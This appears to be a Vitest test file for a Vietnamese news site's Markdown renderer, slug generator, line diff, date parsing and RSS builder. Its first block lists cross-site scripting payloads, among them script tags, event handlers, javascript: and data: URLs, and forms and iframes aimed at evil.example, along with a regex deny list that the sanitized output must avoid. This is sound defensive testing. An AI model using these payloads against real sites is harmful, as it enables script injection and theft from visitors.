import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../news.richtext.js';
import { firstFreeSlug, slugify } from '../news.slug.js';
import { diffLines } from '../news.diff.js';
import { formatVnDateTime, parseVnDateTime } from '../news.format.js';
import { buildRss } from '../news.feed.js';

describe('rich text: Markdown through the allow-list', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="/tep/a.jpg" alt="a" onerror="alert(1)">',
    '[bấm vào đây](javascript:alert(1))',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<style>body{display:none}</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<p style="position:fixed;top:0">phủ trang</p>',
    '<p class="vh-button" id="x" onclick="alert(1)">y</p>',
    '[dữ liệu](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '![ảnh](javascript:alert(1))',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example"><input name="p"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div onmouseover="alert(1)">di chuột</div>',
    '<a href="vbscript:msgbox(1)">x</a>',
  ];
  const forbidden = [/<script/i, /onerror/i, /onload/i, /onclick/i, /onmouseover/i, /javascript:/i, /vbscript:/i, /<iframe/i, /<style/i, /style=/i, /<svg/i, /data:/i, /class=/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<meta/i, /alert\(1\)<\/script/i];

  for (const p of payloads) {
    it(`neutralises ${JSON.stringify(p)}`, () => {
      const html = renderMarkdown(p);
      for (const f of forbidden) expect(html, `${p} → ${html}`).not.toMatch(f);
    });
  }

  it('keeps the allowed structure, forces rel="noopener", keeps only same-origin images', () => {
    const html = renderMarkdown(
      '# Tiêu đề\n\nĐoạn **đậm** và *nghiêng*, [Cổng](https://vanhien.gov.vn), [thư](mailto:a@b.vn).\n\n- một\n- hai\n\n> trích dẫn\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n![Lễ khai mạc](/tep/anh.jpg) ![ngoài](https://evil.example/a.png) ![giao thức](//evil.example/a.png)',
    );
    expect(html).toContain('<h2>Tiêu đề</h2>');
    expect(html).toContain('<strong>đậm</strong>');
    expect(html).toContain('<em>nghiêng</em>');
    expect(html).toContain('<a href="https://vanhien.gov.vn" rel="noopener">Cổng</a>');
    expect(html).toContain('href="mailto:a@b.vn"');
    expect(html).toContain('<ul>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<table>');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('<img src="/tep/anh.jpg" alt="Lễ khai mạc" />');
    expect(html).not.toContain('evil.example');
  });
});

describe('slugs', () => {
  it('folds Vietnamese to ASCII: đ → d, tone marks stripped, hyphens', () => {
    expect(slugify('Sở Văn hóa tổ chức Hội nghị chuyển đổi số năm 2026')).toBe('so-van-hoa-to-chuc-hoi-nghi-chuyen-doi-so-nam-2026');
    expect(slugify('ĐẠI HỘI Thể dục – thể thao: lần thứ X!')).toBe('dai-hoi-the-duc-the-thao-lan-thu-x');
    // The same title typed decomposed (NFD) gives the same slug.
    expect(slugify('Đường đua xe đạp'.normalize('NFD'))).toBe('duong-dua-xe-dap');
    expect(slugify('!!!')).toBe('bai-viet');
    const long = slugify('Hội nghị '.repeat(30));
    expect(long.length).toBeLessThanOrEqual(80);
    expect(long.endsWith('-')).toBe(false);
  });

  it('adds -2, -3 … to keep slugs unique', () => {
    expect(firstFreeSlug('hoi-nghi', new Set())).toBe('hoi-nghi');
    expect(firstFreeSlug('hoi-nghi', new Set(['hoi-nghi']))).toBe('hoi-nghi-2');
    expect(firstFreeSlug('hoi-nghi', new Set(['hoi-nghi', 'hoi-nghi-2']))).toBe('hoi-nghi-3');
  });
});

describe('diff, dates, RSS escaping', () => {
  it('diffs lines', () => {
    expect(diffLines('a\nb\nc', 'a\nB\nc\nd')).toEqual([
      { op: 'same', text: 'a' },
      { op: 'del', text: 'b' },
      { op: 'add', text: 'B' },
      { op: 'same', text: 'c' },
      { op: 'add', text: 'd' },
    ]);
  });

  it('reads and prints Vietnam time', () => {
    const d = parseVnDateTime('01/12/2026 08:30')!;
    expect(d.toISOString()).toBe('2026-12-01T01:30:00.000Z');
    expect(parseVnDateTime('2026-12-01T08:30')!.getTime()).toBe(d.getTime());
    expect(formatVnDateTime(d)).toBe('01/12/2026 08:30');
    expect(parseVnDateTime('31/02/2026 08:00')).toBeNull();
    expect(parseVnDateTime('mai')).toBeNull();
  });

  it('escapes titles and drops characters XML forbids', () => {
    const xml = buildRss({
      title: 'Sở & "Tin"',
      description: 'd',
      siteUrl: 'https://x.vn',
      selfUrl: 'https://x.vn/tin-tuc/rss.xml',
      items: [{ id: '00000000-0000-0000-0000-000000000000', slug: 's', title: 'A <b> & \u0007B', summary: "it's", publishedAt: new Date(0), categoryName: 'C' }],
    });
    expect(xml).toContain('<title>A &lt;b&gt; &amp; B</title>');
    expect(xml).toContain('Sở &amp; &quot;Tin&quot;');
    expect(xml).not.toContain('\u0007');
  });
});
